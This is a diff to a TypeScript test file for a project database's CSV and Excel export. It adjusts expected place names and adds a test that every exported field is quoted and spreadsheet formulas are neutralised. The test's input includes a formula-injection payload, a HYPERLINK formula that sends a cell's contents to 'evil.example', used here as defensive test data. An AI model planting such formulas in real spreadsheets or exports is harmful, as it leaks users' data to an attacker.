@@ -6,6 +6,7 @@ import * as s from "@/db/schema";
 import type { Locale } from "@/lib/i18n/locales";
 import { parseProjectFilters } from "@/lib/projects/list/input";
 import { countProjects, listProjects } from "@/lib/projects/list/queries";
+import { unneutraliseCsv } from "@/lib/spreadsheets/cells";
 import {
   type ExportScope,
   exportHistoryRows,
@@ -103,7 +104,8 @@ describe(`exporting the project list (${testBackend()})`, () => {
     expect(cell("Kontaktperson, norsk side")).toBe(w.delegateNo.name);
     expect(cell("E-post til kontaktperson, russisk side")).toBe(w.delegateRu.email);
     expect(cell("Partnere")).toBe("Norges sjømatråd\nМурманский рыбный союз");
-    expect(cell("Steder")).toBe("Vardø\nМурманск");
+    // Places by their names in the sheet's language, whichever script chose them.
+    expect(cell("Steder")).toBe("Vardø\nMurmansk");
     expect(cell("Finansiering, beløp")).toBe("1500000.50");
     expect(cell("Finansiering, valuta")).toBe("NOK");
     // The latest update (23:30 Oslo time on 2 March) and its note.
@@ -124,6 +126,40 @@ describe(`exporting the project list (${testBackend()})`, () => {
     expect(title.type).toBe(ExcelJS.ValueType.String);
     expect(title.value).toBe(`'${w.projects.p3.titleEn}`);
     expect(sheet.getRow(4).getCell(12).value).toBe(100);
+  });
+
+  it("quotes every field and neutralises formulas after separators: read back split on semicolons, no cell is a formula", async () => {
+    // Excel with Norwegian or Russian regional settings splits a CSV file on ";" (issue 18.3).
+    const title = 'Bridge;=HYPERLINK("http://evil.example/?leak="&A1,"Click");x';
+    const summary = "Steps:\n+1 more\tcell,@SUM(A1:A9);-2";
+    await createProject(t.db, w.group.id, w.sea.id, {
+      code: "SEMI-1",
+      titleEn: title,
+      summaryEn: summary,
+    });
+    const { bytes, records } = await exportCsv({ q: "SEMI-1" }, "en");
+    const text = bytes.toString("utf8").replace(/^\ufeff/, "");
+    // Every field in double quotes, the headings too.
+    const [headings = ""] = text.split("\r\n");
+    expect(headings).toBe((records[0] ?? []).map((h) => `"${h}"`).join(","));
+    // Read as a semicolon-separated file, quotes or not: every cell starts after a separator
+    // (or a line break); none may start a formula.
+    const starts = text.split(/[;,\t\r\n]/).map((cell) => cell.replace(/^"+/, ""));
+    expect(starts.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    const semicolon = parse(text, {
+      delimiter: ";",
+      relax_quotes: true,
+      relax_column_count: true,
+      skip_records_with_error: true,
+    }) as string[][];
+    expect(semicolon.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    // Read as the comma-separated file it is, then as the import reads it: the stored text.
+    const [header = [], row = []] = records;
+    const written = row[header.indexOf("Title (English)")] ?? "";
+    expect(written).not.toBe(title);
+    expect(unneutraliseCsv(written)).toBe(title);
+    expect(unneutraliseCsv(row[header.indexOf("Summary (English)")] ?? "")).toBe(summary);
+    await t.db.delete(s.projects).where(like(s.projects.code, "SEMI-%"));
   });
 
   it("gives the IATI activity status code of every status (proposed 1 … cancelled 6)", async () => {
@@ -258,7 +294,6 @@ describe(`exporting the project list (${testBackend()})`, () => {
       plannedStart: "2018-01-01",
       plannedEnd: "2019-12-31",
       partners: ["Partner A", "Партнёр Б"],
-      places: ["Kirkenes"],
       fundingAmount: "125000.00",
       fundingCurrency: "EUR" as const,
     }));
